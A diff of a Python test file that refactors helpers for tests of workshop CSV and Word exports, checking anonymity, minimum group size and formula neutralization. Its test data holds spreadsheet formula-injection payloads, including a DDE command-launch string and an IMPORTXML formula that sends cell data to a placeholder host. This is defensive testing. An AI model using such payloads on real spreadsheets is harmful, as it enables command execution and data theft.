@@ -11,14 +11,13 @@ import pytest
 from docx import Document
 
 from rapport.answers_file import to_json
-from rapport.core.assessment import Assessment
 from rapport.core.framework import Framework
 from rapport.core.workshop import Workshop, WorkshopError, practice_results, summarize
 from rapport.debrief_report import build_debrief
 from rapport.exports import aggregates_csv, neutralize, responses_csv
 from rapport.qr import qr_png
 from rapport.workshops import anonymous
-from tests.unit.test_workshop_core import rows_for
+from tests.helpers import people, rows_for
 
 HOSTILE = ['=HYPERLINK("http://x")', "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]
 
@@ -27,17 +26,6 @@ def _workshop(framework: Framework, k: int = 3) -> Workshop:
     moment = datetime(2026, 11, 27, tzinfo=UTC)
     return Workshop("w1", "K7P3QD", "=cmd|' /C calc'!A0", framework.id, framework.version, k,
                     True, True, frozenset(), moment, moment)  # fmt: skip
-
-
-def _people(framework: Framework, count: int) -> list[Assessment]:
-    people = []
-    for number in range(count):
-        person = Assessment.empty(framework).with_respondent("Secret Name", "Course")
-        for practice in framework.practices:
-            for indicator in practice.indicators:
-                person = person.with_rating(indicator.id, (number + len(indicator.id)) % 5 + 1)
-        people.append(person.with_choice("proactive", example="I told ACME about the delay"))
-    return people
 
 
 def _read(raw: bytes) -> list[list[str]]:
@@ -57,8 +45,8 @@ def test_numbers_and_plain_text_stay_as_they_are() -> None:
 
 
 def test_aggregates_csv(framework: Framework) -> None:
-    people = _people(framework, 4)
-    summary = summarize(framework, 3, rows_for([practice_results(framework, p) for p in people]))
+    room = people(framework, 4)
+    summary = summarize(framework, 3, rows_for([practice_results(framework, p) for p in room]))
     rows = _read(aggregates_csv(framework, _workshop(framework), summary))
     assert rows[0][:4] == ["practice_id", "practice", "responses", "mean_current"]
     assert len(rows) == 1 + len(framework.practices)
@@ -67,8 +55,8 @@ def test_aggregates_csv(framework: Framework) -> None:
 
 
 def test_responses_csv_has_ratings_only(framework: Framework) -> None:
-    people = [anonymous(p) for p in _people(framework, 3)]
-    raw = responses_csv(framework, _workshop(framework), [to_json(p).decode() for p in people])
+    room = [anonymous(p) for p in people(framework, 3)]
+    raw = responses_csv(framework, _workshop(framework), [to_json(p).decode() for p in room])
     text = raw.decode("utf-8-sig")
     assert "Secret Name" not in text and "ACME" not in text
     rows = _read(raw)
@@ -78,27 +66,27 @@ def test_responses_csv_has_ratings_only(framework: Framework) -> None:
 
 
 def test_nothing_exported_below_k(framework: Framework) -> None:
-    people = _people(framework, 2)
-    summary = summarize(framework, 3, rows_for([practice_results(framework, p) for p in people]))
+    room = people(framework, 2)
+    summary = summarize(framework, 3, rows_for([practice_results(framework, p) for p in room]))
     with pytest.raises(WorkshopError, match="2 of the 3 responses needed"):
         aggregates_csv(framework, _workshop(framework), summary)
     with pytest.raises(WorkshopError, match="Nothing to export yet"):
-        responses_csv(framework, _workshop(framework), [to_json(p).decode() for p in people])
+        responses_csv(framework, _workshop(framework), [to_json(p).decode() for p in room])
 
 
 def test_hostile_practice_names_are_neutralized_in_the_export(framework: Framework) -> None:
     data = framework.model_dump()
     data["practices"][0]["name"] = '=IMPORTXML(CONCAT("http://x/",A1))'
     hostile = Framework.model_validate(data)
-    people = _people(hostile, 3)
-    summary = summarize(hostile, 3, rows_for([practice_results(hostile, p) for p in people]))
+    room = people(hostile, 3)
+    summary = summarize(hostile, 3, rows_for([practice_results(hostile, p) for p in room]))
     rows = _read(aggregates_csv(hostile, _workshop(hostile), summary))
     assert rows[1][1].startswith("'=")
 
 
 def test_debrief_is_aggregates_only(framework: Framework) -> None:
-    people = _people(framework, 5)
-    summary = summarize(framework, 3, rows_for([practice_results(framework, p) for p in people]))
+    room = people(framework, 5)
+    summary = summarize(framework, 3, rows_for([practice_results(framework, p) for p in room]))
     raw = build_debrief(framework, _workshop(framework), summary, [], date(2026, 11, 27))
     doc = Document(io.BytesIO(raw))
     text = "\n".join(p.text for p in doc.paragraphs)
@@ -113,7 +101,7 @@ def test_debrief_is_aggregates_only(framework: Framework) -> None:
 
 def test_debrief_below_k_says_so(framework: Framework) -> None:
     summary = summarize(
-        framework, 5, rows_for([practice_results(framework, _people(framework, 1)[0])])
+        framework, 5, rows_for([practice_results(framework, people(framework, 1)[0])])
     )
     doc = Document(
         io.BytesIO(
